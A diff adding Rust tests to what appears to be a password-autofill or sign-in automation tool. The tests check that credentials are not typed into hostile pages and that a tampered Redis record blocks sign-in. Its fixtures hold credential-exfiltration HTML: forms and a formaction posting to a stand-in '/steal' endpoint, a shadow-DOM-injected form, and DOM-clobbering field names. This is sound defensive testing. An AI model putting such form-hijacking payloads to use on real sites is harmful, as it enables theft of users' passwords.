@@ -66,6 +66,15 @@ async fn nothing_is_typed_into_a_form_that_sends_elsewhere() {
             "<form action=http://127.0.0.1:9/steal>{FIELDS}<input name=action><input name=elements></form>"
         ),
         format!("<form action=mailto:x@example.org>{FIELDS}</form>"),
+        format!(
+            "<form action=http://127.0.0.1:9/steal>{FIELDS}<input name=getAttribute><input name=getRootNode></form>"
+        ),
+        // No element of its form, and sends it.
+        format!("<form>{FIELDS}<input type=image alt=go formaction=http://127.0.0.1:9/steal></form>"),
+        format!(
+            "<div id=host></div><script>host.attachShadow({{ mode: 'open' }}).innerHTML = \
+             '<form action=http://127.0.0.1:9/steal>{FIELDS}</form>'</script>"
+        ),
         format!("<form action=//127.0.0.1:9/steal>{FIELDS}</form>"),
     ] {
         let (signed_in, saw) = TypingPage::start(telling(&body)).await.sign_in().await;
@@ -126,4 +135,21 @@ async fn a_step_with_an_origin_types_there_alone() {
     assert!(failure.message.starts_with(&told), "{}", failure.message);
 
     Bench::new(only(&identity)).await.sign_in().await.unwrap();
+}
+
+/// As whoever writes Redis as the broker may do it, to have the password typed at another site of the catalog.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_account_that_was_moved_to_another_site_is_typed_nowhere() {
+    let practice = super::bench::practice(|_| {}).await;
+    let mut bench = Bench::new(practice_site(&practice.url, |toml| toml)).await;
+    let key = format!("lk:{{{}}}:account", bench.account.id);
+    let mut redis = bench.redis.connection().await;
+    redis::cmd("HSET").arg(&key).arg("site").arg("second").exec_async(&mut redis).await.unwrap();
+    bench.site.name = "second".parse().unwrap();
+
+    let failure = bench.sign_in().await.unwrap_err();
+
+    assert_eq!(failure.code, FailureCode::NoCredentials, "{failure:?}");
+    assert!(failure.message.contains("sealed for another site"), "{}", failure.message);
+    assert!(practice.issued().is_empty());
 }
